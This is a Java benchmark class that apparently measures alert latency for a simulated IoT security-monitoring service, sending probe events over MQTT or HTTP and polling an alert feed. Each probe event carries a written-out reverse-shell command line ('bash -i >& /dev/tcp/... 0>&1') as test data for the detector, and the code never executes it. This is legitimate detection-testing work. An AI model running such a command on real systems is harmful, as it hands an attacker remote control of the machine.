package dev.vigil.bench;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.vigil.iot.auth.SasTokenGenerator;
import dev.vigil.server.simulator.DeviceProtocol;
import dev.vigil.server.simulator.FleetProvisioner;
import dev.vigil.server.simulator.SecurityMessageWriter;
import dev.vigil.server.simulator.SimulatedDevice;
import dev.vigil.server.simulator.SimulationSettings;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import org.eclipse.paho.client.mqttv3.IMqttActionListener;
import org.eclipse.paho.client.mqttv3.IMqttToken;
import org.eclipse.paho.client.mqttv3.MqttAsyncClient;
import org.eclipse.paho.client.mqttv3.MqttConnectOptions;
import org.eclipse.paho.client.mqttv3.MqttException;
import org.eclipse.paho.client.mqttv3.MqttMessage;
import org.eclipse.paho.client.mqttv3.persist.MemoryPersistence;

/**
 * Event → IoT alert latency while the fleet runs: one extra device of the fleet's first hub sends,
 * every {@code interval}, a message with one reverse-shell event stamped with the time it is sent,
 * over the protocol under test. Each such event repeats the device's reverse-shell alert, which
 * adds a version to the alert feed; the feed is polled and every version is matched to its probe
 * by the alert's end time (the event's time).
 *
 * <p>Two figures per probe: <em>raised</em>, from sending to the version's {@code changedAt} (the
 * server stamps it as it stores the alert), and <em>visible</em>, from sending to this process
 * reading it from the feed API (adds the polling gap, at most {@code POLL_GAP}). Both clocks are
 * this machine's.
 */
final class AlertLatencyProbe implements AutoCloseable {
    private static final Duration POLL_GAP = Duration.ofMillis(5);
    private static final String ALERT_TYPE = "IoT_ReverseShell";

    /** Latencies in milliseconds: of the acknowledgements, of the probes matched, and how many were sent. */
    record Result(int sent, List<Double> acknowledgedMillis, List<Double> raisedMillis, List<Double> visibleMillis) {
        double acknowledgedPercentile(double p) {
            return percentile(acknowledgedMillis, p);
        }

        double raisedPercentile(double p) {
            return percentile(raisedMillis, p);
        }

        double visiblePercentile(double p) {
            return percentile(visibleMillis, p);
        }

        private static double percentile(List<Double> values, double p) {
            if (values.isEmpty()) {
                return Double.NaN;
            }
            List<Double> sorted = values.stream().sorted().toList();
            int index = (int) Math.ceil(p / 100.0 * sorted.size()) - 1;
            return sorted.get(Math.max(0, Math.min(index, sorted.size() - 1)));
        }
    }

    private final ObjectMapper json = new ObjectMapper();
    private final HttpClient http = HttpClient.newHttpClient();
    private final URI server;
    private final String apiKey;
    private final SimulatedDevice device;
    private final Duration interval;
    private final SecurityMessageWriter writer;
    private final MqttAsyncClient mqtt;
    private final String token;
    private final Map<Instant, Long> pending = new ConcurrentHashMap<>();
    private final List<Double> acknowledged = new ArrayList<>();
    private final List<Double> raised = new ArrayList<>();
    private final List<Double> visible = new ArrayList<>();
    private final AtomicInteger sent = new AtomicInteger();
    private final String feedPath;
    private volatile boolean sending = true;
    private volatile boolean polling = true;
    private long cursor;
    private Thread sender;
    private Thread poller;

    private AlertLatencyProbe(SimulationSettings fleet, SimulatedDevice device, Duration interval) throws MqttException {
        this.server = fleet.server();
        this.apiKey = fleet.apiKey();
        this.device = device;
        this.interval = interval;
        this.writer = new SecurityMessageWriter(device.deviceId());
        this.token = SasTokenGenerator.deviceToken(device.hubHost(), device.deviceId(), device.primaryKey(), Instant.now().plus(Duration.ofHours(2)));
        this.feedPath = "/api/subscriptions/" + FleetProvisioner.subscriptionId(0) + "/providers/Microsoft.Security/iotAlertFeed";
        this.mqtt = device.protocol() == DeviceProtocol.MQTT ? connect(fleet, device, token) : null;
    }

    /**
     * Provisions the probe device beside {@code fleet}'s devices (on its first hub), connects it
     * over {@code protocol} and starts probing.
     */
    static AlertLatencyProbe start(SimulationSettings fleet, DeviceProtocol protocol, Duration interval) throws Exception {
        int index = (fleet.devices() + fleet.hubs() - 1) / fleet.hubs() * fleet.hubs(); // a multiple of the hub count: the first hub
        SimulationSettings withProbe = fleet.withFleet(index + 1, fleet.hubs(), fleet.subscriptions()).withProtocols(List.of(protocol));
        List<SimulatedDevice> devices = new FleetProvisioner(withProbe, HttpClient.newHttpClient()).provision();
        AlertLatencyProbe probe = new AlertLatencyProbe(fleet, devices.get(index), interval);
        probe.cursor = probe.readFeed(0).path("lastSequence").asLong();
        probe.sender = new Thread(probe::sendLoop, "alert-probe-sender");
        probe.poller = new Thread(probe::pollLoop, "alert-probe-poller");
        probe.sender.start();
        probe.poller.start();
        return probe;
    }

    /** Stops sending, waits up to {@code settle} for the last probes' alerts, and returns the figures. */
    Result finish(Duration settle) throws InterruptedException {
        sending = false;
        sender.join();
        long deadline = System.nanoTime() + settle.toNanos();
        while (!pending.isEmpty() && System.nanoTime() < deadline) {
            Thread.sleep(POLL_GAP.toMillis());
        }
        polling = false;
        poller.join();
        synchronized (this) {
            return new Result(sent.get(), List.copyOf(acknowledged), List.copyOf(raised), List.copyOf(visible));
        }
    }

    @Override
    public void close() {
        sending = false;
        polling = false;
        if (mqtt != null) {
            try {
                mqtt.disconnect(2_000).waitForCompletion(3_000);
                mqtt.close(true);
            } catch (MqttException e) {
                // the server drops the connection either way
            }
        }
    }

    private void sendLoop() {
        long next = System.nanoTime();
        while (sending) {
            long wait = next - System.nanoTime();
            if (wait > 0) {
                java.util.concurrent.locks.LockSupport.parkNanos(wait);
            }
            next += interval.toNanos();
            Instant at = Instant.now().truncatedTo(ChronoUnit.MILLIS);
            String message = writer.message(List.of(writer.processCreate(at, "/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "33", "www-data")));
            pending.put(at, at.toEpochMilli());
            sent.incrementAndGet();
            try {
                long sentNanos = System.nanoTime();
                send(message).thenRun(() -> {
                    synchronized (this) {
                        acknowledged.add((System.nanoTime() - sentNanos) / 1e6);
                    }
                });
            } catch (IOException | MqttException e) {
                pending.remove(at);
                System.err.println("probe message not sent: " + e);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                return;
            }
        }
    }

    /** Sends one probe; completes when the hub acknowledged it (PUBACK, or the 204). */
    private CompletableFuture<Void> send(String message) throws IOException, MqttException, InterruptedException {
        if (mqtt != null) {
            MqttMessage mqttMessage = new MqttMessage(message.getBytes(StandardCharsets.UTF_8));
            mqttMessage.setQos(1);
            CompletableFuture<Void> done = new CompletableFuture<>();
            mqtt.publish("devices/" + device.deviceId() + "/messages/events/$.ifid="
                    + URLEncoder.encode(SecurityMessageWriter.SECURITY_INTERFACE_ID, StandardCharsets.UTF_8), mqttMessage, null,
                    new IMqttActionListener() {
                        @Override
                        public void onSuccess(IMqttToken token) {
                            done.complete(null);
                        }

                        @Override
                        public void onFailure(IMqttToken token, Throwable failure) {
                            done.completeExceptionally(failure);
                        }
                    });
            return done;
        } else {
            HttpRequest request = HttpRequest.newBuilder(server.resolve("/devices/" + device.deviceId() + "/messages/events?api-version=2020-03-13"))
                    .header("Authorization", token)
                    .header("Content-Type", "application/json")
                    .header("iothub-interface-id", SecurityMessageWriter.SECURITY_INTERFACE_ID)
                    .POST(HttpRequest.BodyPublishers.ofString(message)).build();
            return http.sendAsync(request, HttpResponse.BodyHandlers.discarding()).thenAccept(response -> { });
        }
    }

    private void pollLoop() {
        while (polling) {
            try {
                JsonNode page = readFeed(cursor);
                long seenAt = Instant.now().toEpochMilli();
                for (JsonNode version : page.path("value")) {
                    match(version, seenAt);
                }
                cursor = page.path("nextCursor").asLong(cursor);
                if (page.path("value").isEmpty()) {
                    Thread.sleep(POLL_GAP.toMillis());
                }
            } catch (IOException e) {
                System.err.println("reading the alert feed failed: " + e);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                return;
            }
        }
    }

    private void match(JsonNode version, long seenAtMillis) {
        JsonNode alert = version.path("alert");
        if (!alert.path("deviceId").asText().equals(device.deviceId()) || !alert.path("alertType").asText().equals(ALERT_TYPE)) {
            return;
        }
        Long sentAt = pending.remove(Instant.parse(alert.path("endTime").asText()));
        if (sentAt == null) {
            return;
        }
        long changedAt = Instant.parse(version.path("changedAt").asText()).toEpochMilli();
        synchronized (this) {
            raised.add((double) (changedAt - sentAt));
            visible.add((double) (seenAtMillis - sentAt));
        }
    }

    private JsonNode readFeed(long after) throws IOException, InterruptedException {
        HttpRequest request = HttpRequest.newBuilder(server.resolve(feedPath + "?after=" + after + "&limit=1000"))
                .header("Authorization", "Bearer " + apiKey).GET().build();
        HttpResponse<String> response = http.send(request, HttpResponse.BodyHandlers.ofString());
        if (response.statusCode() != 200) {
            throw new IOException("the alert feed answered " + response.statusCode() + ": " + response.body());
        }
        return json.readTree(response.body());
    }

    private static MqttAsyncClient connect(SimulationSettings fleet, SimulatedDevice device, String token) throws MqttException {
        MqttAsyncClient client = new MqttAsyncClient("tcp://" + fleet.mqttHost() + ":" + fleet.mqttPort(), device.deviceId(), new MemoryPersistence());
        MqttConnectOptions options = new MqttConnectOptions();
        options.setMqttVersion(MqttConnectOptions.MQTT_VERSION_3_1_1);
        options.setCleanSession(true);
        options.setMaxInflight(100);
        options.setUserName(device.hubHost() + "/" + device.deviceId() + "/?api-version=2021-04-12");
        options.setPassword(token.toCharArray());
        client.connect(options).waitForCompletion(15_000);
        return client;
    }
}
